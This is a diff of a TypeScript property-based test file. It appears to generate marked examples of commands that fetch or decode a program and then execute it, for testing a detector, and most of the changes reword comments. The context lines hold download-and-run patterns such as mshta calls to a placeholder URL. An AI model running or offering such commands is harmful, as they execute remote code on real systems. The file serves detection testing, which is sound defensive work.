@@ -4,9 +4,9 @@
  */
 import fc from "fast-check";
 
-/** A command or expression, and whether its output is a fetched or decoded program. In code, `«` is where the span ends. */
+/** A command or expression, and whether its output is a fetched or decoded program. In an expression, `«` is the end of the span. */
 type Source = readonly [text: string, isProgram: boolean];
-/** An executor: the words that are part of the span, the words after the span, and whether it executes its input. */
+/** An executor: its words that are part of the span, its words after the span, and whether it executes its input. */
 type Executor = readonly [word: string, rest: string, executes: boolean];
 
 const URL = "https://get.example/i";
@@ -207,10 +207,7 @@ const cmdForms: readonly ((source: Source, executor: Executor) => string)[] = [
   ([text], [word, rest]) => `:: ${text} | ${word}${rest}`,
   ([text], [word, rest]) => `echo ${text} ^| ${word}${rest}`,
 ];
-/**
- * Commands that run the program at an address: the part of the command that is the span, the rest, and whether the argument is such
- * an address.
- */
+/** Commands that can run the program at a URL: the part that is the span, the rest, and whether the argument is the URL of a program. */
 const addressed: readonly Executor[] = [
   [`mshta ${URL}.hta`, "", true],
   [`mshta.exe "${URL}.hta"`, "", true],
@@ -286,7 +283,7 @@ function mark(positive: boolean, text: string): string {
   return positive ? `«${text}»` : text;
 }
 
-/** Returns a call of an executor with a source. The span is from the executor, without the prefix `outside`, to the source's mark. */
+/** Returns a call of an executor with a source. The span begins after the prefix `outside` and ends at the mark in the source. */
 function called(before: string, [text, isProgram]: Source, after: string, outside = ""): string {
   return isProgram
     ? `${outside}«${before.slice(outside.length)}${text.replace("«", "»")}${after}`
@@ -301,7 +298,7 @@ const session =
   (text: string): string | null =>
     text.includes("\n") ? null : fence(tag, `${prompt}${text}`);
 
-/** Returns each text in a fence and in each of the other places. */
+/** Returns each text in a fence with the tag, and at each of the other places where it fits. */
 function all(
   tag: string,
   texts: readonly (string | null)[],
